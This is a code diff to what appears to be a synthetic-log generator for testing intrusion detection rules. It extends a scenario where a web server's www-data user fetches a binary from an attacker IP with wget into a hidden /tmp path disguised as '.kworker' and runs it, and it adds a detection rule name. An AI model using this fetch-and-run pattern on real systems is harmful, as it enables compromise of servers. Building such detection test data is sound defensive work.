@@ -120,11 +120,29 @@ def user_created(burst: Burst) -> None:
 def exec_from_tmp(burst: Burst) -> None:
     host, rng = HOSTS["congdan-web02"], burst.rng
     serial, payload = rng.randint(100_000, 999_999), "/tmp/.X11-unix/.kworker"
-    # www-data (uid 33) running a dropped binary: the portal's PHP was exploited.
+    uploads = "/var/www/congdan/uploads"
+    # www-data (uid 33) fetches a binary from the portal's upload directory (a web shell), then
+    # runs it: the portal's PHP was exploited. Each is one audit event of several records,
+    # which the collector joins (exe from SYSCALL, arguments from EXECVE, cwd from CWD).
+    fetch = linux_lines.audit_syscall(rng, exe="/usr/bin/wget", comm="wget", uid=33, auid=None)
+    url = f"http://{attacker_ip(rng)}/k"
+    records = [
+        ("SYSCALL", fetch),
+        ("EXECVE", linux_lines.audit_execve("wget", "-q", "-O", payload, url)),
+        ("CWD", f'cwd="{uploads}"'),
+    ]
+    for record_type, body in records:
+        line = linux_lines.audit(host, burst.at(0.0), serial, record_type, body, burst.key)
+        burst.add(0.0, line)
     syscall = linux_lines.audit_syscall(rng, exe=payload, comm=".kworker", uid=33, auid=None)
     execve = linux_lines.audit_execve(payload, "-c", "/tmp/.X11-unix/.k.conf")
-    burst.add(0.0, linux_lines.audit(host, burst.at(0.0), serial, "SYSCALL", syscall, burst.key))
-    burst.add(0.0, linux_lines.audit(host, burst.at(0.0), serial, "EXECVE", execve, burst.key))
+    for record_type, body in (
+        ("SYSCALL", syscall),
+        ("EXECVE", execve),
+        ("CWD", f'cwd="{uploads}"'),
+    ):
+        line = linux_lines.audit(host, burst.at(1.0), serial + 1, record_type, body, burst.key)
+        burst.add(1.0, line)
 
 
 # --- the citizen portal --------------------------------------------------------------------------
@@ -302,8 +320,8 @@ SCENARIOS: tuple[Scenario, ...] = (
     ),
     Scenario(
         "exec_from_tmp",
-        "auditd: program executed from /tmp by www-data",
-        ("lnx_auditd_exec_from_temp_dir",),
+        "auditd: www-data downloads a program from the web root and runs it from /tmp",
+        ("lnx_auditd_exec_from_temp_dir", "lnx_proc_shell_or_downloader_in_web_root"),
         exec_from_tmp,
     ),
     Scenario(
